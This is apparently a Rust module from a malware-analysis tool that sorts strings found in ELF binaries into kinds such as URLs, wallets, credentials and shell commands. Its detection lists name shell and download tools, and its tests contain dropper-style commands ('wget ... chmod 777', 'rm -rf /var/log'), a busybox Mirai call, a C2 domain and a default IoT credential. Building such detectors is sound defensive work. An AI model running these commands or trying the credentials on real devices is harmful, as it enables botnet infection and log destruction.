//! What a string seems to be. Every test looks at each character a bounded number of times.

use std::net::{Ipv4Addr, Ipv6Addr};

use hotcell_schema::elf::StringKind as Kind;

/// Schemes of URLs.
const SCHEMES: &[&str] = &[
    "http", "https", "ftp", "ftps", "sftp", "tftp", "ws", "wss", "tcp", "udp", "ssh", "git", "telnet",
    "socks4", "socks5", "irc", "ircs", "ldap", "ldaps", "rtsp", "mqtt", "file", "smb", "magnet", "hxxp",
];

/// Top-level domains that are common in samples and are not endings of files.
const DOMAINS: &[&str] = &[
    "com", "net", "org", "info", "biz", "io", "ru", "su", "cn", "xyz", "top", "onion", "de", "uk", "nl",
    "fr", "eu", "us", "tk", "ml", "ga", "cf", "gq", "pw", "ws", "me", "tv", "co", "br", "jp", "kr", "ir",
    "ua", "it", "es", "se", "fi", "ch", "at", "be", "cz", "ro", "hu", "gr", "pt", "dk", "au", "ca", "mx",
    "tr", "vn", "hk", "tw", "sg", "id", "th", "za", "gov", "edu", "mil", "int", "arpa", "site", "online",
    "club", "shop", "live", "pro", "space", "icu", "vip", "app", "dev", "cloud", "host", "link", "click",
    "bit", "local", "example", "invalid", "test", "libre", "party", "win", "cyou", "bid",
];

/// Commands that speak for themselves when something follows.
const COMMANDS: &[&str] = &[
    "wget",
    "curl",
    "tftp",
    "ftpget",
    "busybox",
    "/bin/busybox",
    "nohup",
    "crontab",
    "iptables",
    "insmod",
    "modprobe",
    "/bin/sh",
    "/bin/bash",
    "systemctl",
    "killall",
    "pkill",
    "chattr",
    "useradd",
    "setenforce",
    "nc",
];

/// Commands that are also words of prose: something like an option, a path or a number must follow.
const WORDS: &[&str] = &[
    "sh", "bash", "rm", "chmod", "cat", "cd", "kill", "mkdir", "mount", "umount", "cp", "mv", "ln", "echo",
    "export", "touch", "ps", "netstat", "service", "sysctl", "dd", "tar", "python", "perl", "ip", "ifconfig",
    "route", "sed", "awk", "grep", "find", "ls", "sleep", "while", "for", "base64", "openssl", "ssh", "scp",
    "su", "sudo", "exec", "history",
];

/// Names of accounts that lists of passwords begin with.
const ACCOUNTS: &[&str] = &[
    "root",
    "admin",
    "user",
    "guest",
    "support",
    "ubnt",
    "pi",
    "default",
    "telnet",
    "mother",
    "service",
    "supervisor",
    "tech",
    "administrator",
    "test",
    "oracle",
    "postgres",
    "mysql",
    "ftp",
    "nobody",
    "daemon",
];

/// Beginnings of lines of HTTP.
const HTTP: &[&str] = &[
    "GET /",
    "POST /",
    "HEAD /",
    "PUT /",
    "OPTIONS /",
    "CONNECT ",
    "HTTP/1.",
    "HTTP/2",
    "Host: ",
    "Content-Type:",
    "Content-Length:",
    "Connection: ",
    "Accept:",
    "Accept-",
    "Cookie:",
    "Set-Cookie:",
    "Authorization:",
    "SOAPAction:",
    "Transfer-Encoding:",
    "Referer:",
    "Cache-Control:",
    "Location:",
    "X-Forwarded-For:",
];

/// Beginnings of what toolchains and C libraries write.
const TOOLCHAINS: &[&str] = &[
    "GCC: (",
    "clang version",
    "Linker: ",
    "rustc version",
    "Go build",
    "go1.",
    "GNU C",
    "Android (",
    "GLIBC_",
    "GCC_",
    "GLIBCXX_",
    "CXXABI_",
    "musl libc",
    "Debian clang",
    "GNU AS ",
    "uClibc",
    "/lib/ld-",
    "/lib64/ld-",
    "BusyBox v",
];

/// Whether a string is of some kind.
type Test = fn(&str) -> bool;

/// The kind of a string.
pub(crate) fn of(text: &str) -> Kind {
    let trimmed = text.trim();
    let tests: &[(Kind, Test)] = &[
        (Kind::Key, key),
        (Kind::Wallet, wallet),
        (Kind::UserAgent, user_agent),
        (Kind::Http, |text| {
            HTTP.iter().any(|begin| text.starts_with(begin))
        }),
        (Kind::Command, command),
        (Kind::Url, url),
        (Kind::Ipv4, |text| tokens(text).any(ipv4)),
        (Kind::Ipv6, |text| tokens(text).any(ipv6)),
        (Kind::Email, |text| tokens(text).any(email)),
        (Kind::Domain, domain_or_port),
        (Kind::Credential, credential),
        (Kind::Toolchain, |text| {
            TOOLCHAINS.iter().any(|begin| text.starts_with(begin))
        }),
        (Kind::Library, library),
        (Kind::Path, path),
        (Kind::Hex, hex),
        (Kind::Base64, base64),
        (Kind::Format, format),
    ];
    tests
        .iter()
        .find(|(_, test)| test(trimmed))
        .map_or(Kind::Text, |(kind, _)| *kind)
}

/// Words, cut at white space, quotes, brackets and the like; at most 64 of them.
fn tokens(text: &str) -> impl Iterator<Item = &str> {
    text.split(|c: char| {
        c.is_ascii_whitespace() || matches!(c, '"' | '\'' | '=' | '(' | ')' | '<' | '>' | ',' | ';' | '|')
    })
    .filter(|token| !token.is_empty())
    .take(64)
}

fn key(text: &str) -> bool {
    text.contains("-----BEGIN ")
        || [
            "ssh-rsa AAAA",
            "ssh-ed25519 AAAA",
            "ssh-dss AAAA",
            "ecdsa-sha2-nistp",
            "PuTTY-User-Key-File",
        ]
        .iter()
        .any(|begin| text.starts_with(begin))
}

fn base58(text: &str) -> bool {
    text.bytes()
        .all(|byte| byte.is_ascii_alphanumeric() && !matches!(byte, b'0' | b'O' | b'I' | b'l'))
}

fn mixed(text: &str) -> bool {
    let has = |test: fn(&u8) -> bool| text.as_bytes().iter().any(test);
    has(u8::is_ascii_digit) && has(u8::is_ascii_uppercase) && has(u8::is_ascii_lowercase)
}

fn wallet(text: &str) -> bool {
    text.contains("stratum+tcp://")
        || text.contains("stratum+ssl://")
        || text.contains("mining.subscribe")
        || tokens(text).any(|token| match token.as_bytes() {
            [b'1' | b'3', ..] => (26..=35).contains(&token.len()) && base58(token) && mixed(token),
            [b'4' | b'8', b'0'..=b'9' | b'A' | b'B', ..] => {
                token.len() == 95 && base58(token) && mixed(token)
            }
            [b'b', b'c', b'1', b'q' | b'p', ..] => {
                (42..=62).contains(&token.len())
                    && token
                        .bytes()
                        .all(|byte| byte.is_ascii_lowercase() || byte.is_ascii_digit())
            }
            _ => token
                .strip_prefix("0x")
                .is_some_and(|rest| rest.len() == 40 && rest.bytes().all(|byte| byte.is_ascii_hexdigit())),
        })
}

fn user_agent(text: &str) -> bool {
    let version = |begin: &str| {
        text.strip_prefix(begin)
            .is_some_and(|rest| rest.starts_with(|c: char| c.is_ascii_digit()))
    };
    text.starts_with("User-Agent:")
        || [
            "Mozilla/",
            "Opera/",
            "curl/",
            "Wget/",
            "python-requests/",
            "Go-http-client/",
        ]
        .into_iter()
        .any(version)
}

fn command(text: &str) -> bool {
    if [
        ">/dev/null",
        "> /dev/null",
        "2>&1",
        "|sh",
        "| sh",
        "|bash",
        "| bash",
        "${IFS}",
    ]
    .iter()
    .any(|sign| text.contains(sign))
    {
        return true;
    }
    text.split([';', '&', '|']).take(16).any(|part| {
        let mut words = part.split_ascii_whitespace();
        let (Some(first), Some(second)) = (words.next(), words.next()) else {
            return false;
        };
        let argument = second.starts_with(['-', '/', '+', '$', '%', '~', '.', '*'])
            || second.bytes().next().is_some_and(|byte| byte.is_ascii_digit())
            || second.contains("://");
        // Usage texts explain what a command is: `wget [-q] URL`.
        let usage = second.starts_with('[') || part.contains(" [-");
        !usage
            && ((COMMANDS.contains(&first) && (argument || first.contains("busybox")))
                || (WORDS.contains(&first) && argument))
    })
}

fn url(text: &str) -> bool {
    text.match_indices("://").take(8).any(|(place, _)| {
        let (before, rest) = text.split_at(place);
        let scheme_at = before
            .rfind(|c: char| !c.is_ascii_alphanumeric())
            .map_or(0, |at| at + 1);
        let scheme = before.get(scheme_at..).unwrap_or_default();
        let host = rest.get(3..).unwrap_or_default();
        SCHEMES.iter().any(|known| scheme.eq_ignore_ascii_case(known))
            && host.starts_with(|c: char| c.is_ascii_alphanumeric() || matches!(c, '[' | '%' | '/'))
    })
}

fn ipv4(token: &str) -> bool {
    let host = token.split(['/', ':']).next().unwrap_or_default();
    let rest = token.get(host.len()..).unwrap_or_default();
    let port = rest.is_empty()
        || rest.get(1..).is_some_and(|digits| {
            rest.starts_with('/')
                || digits
                    .bytes()
                    .next()
                    .is_some_and(|b| b.is_ascii_digit() || b == b'%')
        });
    port && host.len() >= 7 && host.parse::<Ipv4Addr>().is_ok()
}

fn ipv6(token: &str) -> bool {
    let inner = token
        .strip_prefix('[')
        .and_then(|rest| rest.split(']').next())
        .unwrap_or(token);
    let plain = inner.split(['/', '%']).next().unwrap_or_default();
    plain.len() >= 3
        && plain.matches(':').count() >= 2
        && plain.bytes().any(|byte| byte.is_ascii_digit())
        && plain.parse::<Ipv6Addr>().is_ok()
}

fn email(token: &str) -> bool {
    let Some((name, host)) = token.split_once('@') else {
        return false;
    };
    !name.is_empty()
        && name
            .bytes()
            .all(|byte| byte.is_ascii_alphanumeric() || matches!(byte, b'.' | b'_' | b'-' | b'+'))
        && domain(host.trim_end_matches(['.', ':']))
}

fn domain_or_port(text: &str) -> bool {
    let host = text.split(':').next().unwrap_or_default();
    let port = text.get(host.len() + 1..).unwrap_or_default();
    domain(host) && port.bytes().all(|byte| byte.is_ascii_digit())
}

fn domain(text: &str) -> bool {
    let mut labels = 0;
    let well = text.split('.').all(|label| {
        labels += 1;
        (1..=63).contains(&label.len())
            && label
                .bytes()
                .all(|byte| byte.is_ascii_alphanumeric() || byte == b'-')
            && !label.starts_with('-')
    });
    let last = text.rsplit('.').next().unwrap_or_default();
    well && labels >= 2 && text.len() >= 6 && DOMAINS.contains(&last)
}

fn credential(text: &str) -> bool {
    let Some((name, rest)) = text.split_once(':') else {
        return false;
    };
    ACCOUNTS.contains(&name)
        && (1..=256).contains(&rest.len())
        && !rest.starts_with([' ', '/'])
        && !rest.contains(' ')
}

fn library(text: &str) -> bool {
    let one_word = text.bytes().all(|byte| byte.is_ascii_graphic());
    let dynamic = text.find(".so").is_some_and(|place| {
        let after = text.get(place + 3..).unwrap_or_default();
        place > 0
            && (after.is_empty() || after.starts_with('.'))
            && after.bytes().all(|byte| byte.is_ascii_digit() || byte == b'.')
    });
    one_word
        && !text.starts_with('/')
        && text.len() > 4
        && (dynamic
            || [".dll", ".DLL", ".ko", ".dylib"]
                .iter()
                .any(|end| text.ends_with(end)))
}

fn path(text: &str) -> bool {
    let rest = match text.as_bytes() {
        [b'/', rest @ ..] => rest,
        [b'~', b'/', rest @ ..] | [b'.', b'/', rest @ ..] | [b'.', b'.', b'/', rest @ ..] => rest,
        [drive, b':', b'\\', rest @ ..] if drive.is_ascii_alphabetic() => rest,
        _ => return false,
    };
    let names = rest.iter().filter(|byte| byte.is_ascii_alphanumeric()).count();
    rest.first()
        .is_some_and(|byte| byte.is_ascii_alphanumeric() || matches!(byte, b'.' | b'_' | b'%'))
        && names >= 3
        && rest
            .iter()
            .all(|byte| byte.is_ascii_graphic() && !matches!(byte, b'"' | b'<' | b'>' | b'|' | b'`' | b'^'))
}

fn hex(text: &str) -> bool {
    let has = |test: fn(&u8) -> bool| text.as_bytes().iter().any(test);
    text.len() >= 32
        && text.len().is_multiple_of(2)
        && text.bytes().all(|byte| byte.is_ascii_hexdigit())
        && has(u8::is_ascii_digit)
        && has(u8::is_ascii_alphabetic)
}

fn base64(text: &str) -> bool {
    let body = text.trim_end_matches('=');
    text.len() >= 40
        && text.len().is_multiple_of(4)
        && text.len() - body.len() <= 2
        && body
            .bytes()
            .all(|byte| byte.is_ascii_alphanumeric() || matches!(byte, b'+' | b'/'))
        && mixed(body)
}

/// A conversion of printf: `%`, flags, width, precision, length, letter.
fn format(text: &str) -> bool {
    if text.len() < 5 {
        return false;
    }
    text.match_indices('%').take(32).any(|(place, _)| {
        let rest = text.get(place + 1..).unwrap_or_default();
        let conversion = rest.trim_start_matches(|c: char| {
            c.is_ascii_digit() || matches!(c, '#' | '-' | '+' | '.' | '*' | '\'')
        });
        let conversion = conversion.trim_start_matches(['h', 'l', 'z', 'j', 't', 'L', 'q']);
        rest.len() - conversion.len() <= 12
            && conversion.starts_with([
                'd', 'i', 'o', 'u', 'x', 'X', 'e', 'f', 'g', 's', 'c', 'p', 'm', 'n',
            ])
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn kinds_of_strings() {
        let cases = [
            ("-----BEGIN RSA PRIVATE KEY-----", Kind::Key),
            ("ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQC", Kind::Key),
            ("http://198.51.100.7/bins/arm7", Kind::Url),
            ("http://%s:%d/", Kind::Url),
            ("://", Kind::Text),
            ("198.51.100.7", Kind::Ipv4),
            ("connect to 198.51.100.7:4444", Kind::Ipv4),
            ("1.2.3.4.5", Kind::Text),
            ("999.1.1.1", Kind::Text),
            ("2001:db8::1", Kind::Ipv6),
            ("[2001:db8::1]:80", Kind::Ipv6),
            ("std::string", Kind::Text),
            ("00:11:22:33:44:55", Kind::Text),
            ("stratum+tcp://pool.example:3333", Kind::Wallet),
            ("1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa", Kind::Wallet),
            ("cd /tmp; wget http://x/y; chmod 777 y", Kind::Command),
            ("/bin/busybox MIRAI", Kind::Command),
            ("rm -rf /var/log", Kind::Command),
            ("echo 1 > /proc/sys/kernel/x 2>&1", Kind::Command),
            ("mount all filesystems", Kind::Text),
            ("wget [-q] URL", Kind::Text),
            ("Mozilla/5.0 (X11; Linux x86_64)", Kind::UserAgent),
            ("User-Agent: x", Kind::UserAgent),
            ("GET /shell HTTP/1.1", Kind::Http),
            ("cnc.changeme.com", Kind::Domain),
            ("cnc.example.com:23", Kind::Domain),
            ("main.c", Kind::Text),
            ("a@b.example.org", Kind::Email),
            ("memcpy@GLIBC_2.2.5", Kind::Text),
            ("root:xc3511", Kind::Credential),
            ("user: unknown", Kind::Text),
            ("/etc/passwd", Kind::Path),
            ("/proc/%d/exe", Kind::Path),
            ("/%d", Kind::Text),
            ("libc.so.6", Kind::Library),
            ("GCC: (Debian 12.2.0-14) 12.2.0", Kind::Toolchain),
            ("value %5.2f of %s", Kind::Format),
            ("QWxhZGRpbjpvcGVuIHNlc2FtZQQWxhZGRpbjpvcG", Kind::Base64),
            ("d41d8cd98f00b204e9800998ecf8427e", Kind::Hex),
            ("hello world", Kind::Text),
        ];
        for (text, kind) in cases {
            assert_eq!(of(text), kind, "{text}");
        }
    }
}
